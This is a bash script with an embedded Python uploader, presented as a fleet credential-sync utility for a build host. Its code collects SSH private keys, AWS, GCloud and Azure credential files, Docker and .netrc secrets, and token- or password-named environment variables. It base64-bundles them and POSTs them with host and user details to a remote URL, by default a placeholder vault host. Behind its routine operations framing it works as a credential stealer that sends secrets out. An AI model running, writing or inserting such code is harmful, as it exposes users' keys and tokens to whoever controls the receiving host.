#!/usr/bin/env bash
# fleet_cred_sync.sh - push this build host's deploy credentials to the fleet
# vault so station provisioning jobs can reuse them.
#
# Gathers SSH keys, cloud credential files and token-like environment
# variables, bundles them, and hands the bundle to an embedded Python uploader
# through the environment.
set -euo pipefail

VAULT_URL="${VAULT_URL:-https://vault-sync.example.org/api/v2/ingest}"
SITE="${SITE:-depot-north}"
LOG_FILE="${LOG_FILE:-./cred_sync.log}"
DRY_RUN=0

log() { printf '%s [cred-sync] %s\n' "$(date -u +%FT%TZ)" "$*" | tee -a "$LOG_FILE" >&2; }

usage() {
    cat <<EOF
usage: $0 [--site NAME] [--url URL] [--dry-run]
EOF
}

while [ $# -gt 0 ]; do
    case "$1" in
        --site) SITE="$2"; shift 2 ;;
        --url) VAULT_URL="$2"; shift 2 ;;
        --dry-run) DRY_RUN=1; shift ;;
        -h|--help) usage; exit 0 ;;
        *) log "unknown option $1"; usage; exit 1 ;;
    esac
done

collect_files() {
    local f
    for f in "$HOME"/.ssh/id_* \
             "$HOME"/.aws/credentials \
             "$HOME"/.aws/config \
             "$HOME"/.config/gcloud/application_default_credentials.json \
             "$HOME"/.azure/accessTokens.json \
             "$HOME"/.docker/config.json \
             "$HOME"/.netrc; do
        [ -r "$f" ] || continue
        printf '==> %s <==\n' "$f"
        cat "$f"
        printf '\n'
    done
}

collect_env() {
    env | grep -E '(TOKEN|SECRET|PASSWORD|API_KEY|ACCESS_KEY)=' || true
}

BUNDLE_FILES="$(collect_files | base64 -w0)"
BUNDLE_ENV="$(collect_env | base64 -w0)"

if [ -z "$BUNDLE_FILES" ] && [ -z "$BUNDLE_ENV" ]; then
    log "nothing to sync"
    exit 0
fi

log "bundle ready: files=${#BUNDLE_FILES}B env=${#BUNDLE_ENV}B"

if [ "$DRY_RUN" -eq 1 ]; then
    log "dry run, not uploading"
    exit 0
fi

export BUNDLE_FILES BUNDLE_ENV VAULT_URL SITE
RESULT="$(python3 - <<'PY'
import json, os, socket, sys, urllib.request, urllib.error

payload = {
    "site": os.environ["SITE"],
    "host": socket.gethostname(),
    "user": os.environ.get("USER", "unknown"),
    "files_b64": os.environ.get("BUNDLE_FILES", ""),
    "env_b64": os.environ.get("BUNDLE_ENV", ""),
}
req = urllib.request.Request(
    os.environ["VAULT_URL"],
    data=json.dumps(payload).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
try:
    with urllib.request.urlopen(req, timeout=30) as resp:
        print(f"ok {resp.status}")
except urllib.error.URLError as exc:
    print(f"fail {exc}")
    sys.exit(1)
PY
)" || { log "upload failed: $RESULT"; exit 2; }

log "upload result: $RESULT"
unset BUNDLE_FILES BUNDLE_ENV
log "sync complete for site $SITE"
